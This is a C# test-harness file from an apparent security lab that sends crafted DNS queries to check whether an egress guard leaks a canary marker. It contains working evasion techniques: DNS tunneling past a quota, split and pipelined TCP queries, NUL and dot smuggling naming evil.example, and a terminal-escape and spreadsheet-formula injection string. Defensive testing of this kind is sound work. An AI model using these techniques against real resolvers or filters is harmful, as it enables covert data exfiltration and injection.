using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;

namespace Exeat.Lab.Attacks;

/// <summary>Questions of an attacker's making (D3, D9, D12, D14, D15). The mark stands in a label or in other bytes of the question.</summary>
internal static class DnsTricks
{
    /// <summary>More names than an agent may ask of one zone (500), so that the last ones are over the quota.</summary>
    private const int Tunnel = 540, Marked = 20;

    public static Task<bool> RunAsync(string trick, AttackTarget target) => trick switch
    {
        "dns-split" => SplitAsync(target),
        "dns-pipelined" => PipelinedAsync(target),
        "dns-tunnel" => TunnelAsync(target, Tunnel),
        "dns-tunnel-small" => TunnelAsync(target, Marked),
        "dns-options" => AskAsync(target, [.. Question(target.Name, additional: 1), 0, 0, 41, 4, 208, 0, 0, 0, 0, .. Length(target, 4), .. new byte[] { 0xfd, 0xe9 }, .. Length(target, 0), .. Mark(target)]),
        "dns-trailing" => AskAsync(target, [.. Question(target.Name, additional: 0), .. Mark(target)]),
        "dns-case" => AskAsync(target, DnsLabels.Question($"{target.Canary}.{target.Name.ToUpperInvariant()}")),
        // One label, whose NUL looks to a careless reader like the end of another name.
        "dns-nul" => AskAsync(target, Labels(target.Canary, "evil.example\0", target.Name)),
        "dns-dot" => AskAsync(target, Labels($"{target.Canary}.evil.example", target.Name)),
        "dns-escape" => AskAsync(target, Labels(target.Canary, "\u001b[2J=cmd|'/c'!A1\r\n", target.Name)),
        "dns-long" => AskAsync(target, Labels(target.Canary, new string('a', 63), new string('b', 63), new string('c', 63), new string('d', 63), target.Name)),
        _ => throw new Topology.LabException($"no trick of DNS is named {trick}"),
    };

    // The length of two bytes, and every byte of the question, in a segment of its own (RFC 1035, 4.2.2).
    private static async Task<bool> SplitAsync(AttackTarget target)
    {
        using Socket socket = await AttackTarget.ConnectAsync(target.EndPoint);
        foreach (byte one in Framed(DnsLabels.Question($"{target.Canary}.{target.Name}"))) await socket.SendAsync(new[] { one });
        return await HeardAsync(socket);
    }

    // An innocent question first, the others in the same segment behind it (RFC 7766, 6.2.1.1).
    private static async Task<bool> PipelinedAsync(AttackTarget target)
    {
        using Socket socket = await AttackTarget.ConnectAsync(target.EndPoint);
        byte[] all = [.. Framed(DnsLabels.Question("clawhub.ai")), .. Enumerable.Range(0, 3).SelectMany(i => Framed(DnsLabels.Question($"{i}.{target.Canary}.{target.Name}")))];
        await socket.SendAsync(all);
        return await HeardAsync(socket);
    }

    // No faster than an agent may ask (100 a second), so that the quota is what stops it.
    private static async Task<bool> TunnelAsync(AttackTarget target, int questions)
    {
        using var socket = new Socket(target.Family, SocketType.Dgram, ProtocolType.Udp);
        await socket.ConnectAsync(target.EndPoint);
        for (int i = 0; i < questions; i++)
        {
            string chunk = Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(8));
            await socket.SendAsync(DnsLabels.Question(i < questions - Marked ? $"{i}.{chunk}.{target.Name}" : $"{i}.{target.Canary}.{target.Name}"));
            if (i % 8 == 0) await Task.Delay(TimeSpan.FromMilliseconds(100), TimeProvider.System);
        }
        return await HeardAsync(socket);
    }

    private static async Task<bool> AskAsync(AttackTarget target, byte[] question)
    {
        using var socket = new Socket(target.Family, SocketType.Dgram, ProtocolType.Udp);
        await socket.ConnectAsync(target.EndPoint);
        await socket.SendAsync(question);
        return await HeardAsync(socket);
    }

    private static async Task<bool> HeardAsync(Socket socket)
    {
        using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
        return await socket.ReceiveAsync(new byte[1500], limit.Token) > 0;
    }

    private static byte[] Question(string name, byte additional)
    {
        byte[] question = DnsLabels.Question(name);
        question[11] = additional;
        return question;
    }

    // Labels as they are, dots and all; the last text is a name.
    private static byte[] Labels(params string[] labels) =>
    [
        .. RandomNumberGenerator.GetBytes(2), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0,
        .. labels[..^1].Concat(labels[^1].Split('.')).SelectMany(label => (byte[])[(byte)label.Length, .. Encoding.ASCII.GetBytes(label)]),
        0, 0, 1, 0, 1,
    ];

    private static byte[] Mark(AttackTarget target) => Encoding.ASCII.GetBytes(target.Canary);

    private static byte[] Length(AttackTarget target, int more) => [0, (byte)(target.Canary.Length + more)];

    private static byte[] Framed(byte[] message) => [(byte)(message.Length >> 8), (byte)message.Length, .. message];
}
